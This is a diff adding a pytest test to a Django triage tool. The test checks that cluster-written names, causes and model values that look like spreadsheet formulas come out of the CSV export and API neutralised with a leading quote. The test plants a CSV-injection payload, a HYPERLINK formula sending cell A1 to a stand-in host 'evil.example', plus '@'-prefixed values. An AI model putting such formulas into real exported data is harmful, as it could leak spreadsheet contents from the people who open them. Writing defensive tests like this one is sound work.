@@ -324,6 +324,36 @@ def test_csv_parses_and_matches_the_json(monday):
                 assert int(row["seconds"]) == item["seconds"]
 
 
+@pytest.mark.parametrize("section", ["pended", "causes", "leaks", "allocation"])
+def test_a_formula_in_cluster_data_comes_back_inert_from_the_triage_csv(monday, section):
+    """The report's CSV (API and command) goes through the API's renderer: names, causes and models a
+    cluster wrote that look like formulas come back with OWASP's leading quote (the updates roll back)."""
+    from django.db.models import F, Value
+    from django.db.models.functions import Concat
+
+    from fleet.models import AllocationSample
+    from tests.api.test_csv_injection import assert_inert
+
+    payload = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+    for model in (ClaimLifecycle, ClaimStateChange, PendingCause):
+        model.objects.update(name=payload)
+    PendingCause.objects.update(summary=payload)
+    AllocationSample.objects.update(model=Concat(Value("@"), F("model")))
+    params = {"since": "friday 18:00", "until": UNTIL}
+    out = StringIO()
+    call_command("triage", format="csv", section=section, stdout=out, **params)
+    api = APIClient()
+    api.force_login(get_user_model().objects.get(username="oncall"))
+    response = api.get("/api/v1/triage/", {**params, "format": "csv", "section": section})
+    assert response.status_code == 200 and response.content.decode() == out.getvalue()
+    rows = assert_inert(out.getvalue())
+    if section == "causes":  # summaries are claimscope's words; the names are in a JSON list ("[...")
+        assert rows and any("HYPERLINK" in row["examples"] for row in rows), rows[:1]
+        return
+    column, value = ("model", "@") if section == "allocation" else ("name", payload)
+    assert rows and all(row[column].startswith("'" + value) for row in rows), rows[:1]
+
+
 def test_a_namespace_scoped_user_sees_only_their_claims_by_name(monday):
     dev = get_user_model().objects.get(username="inference-dev")
     api = APIClient()
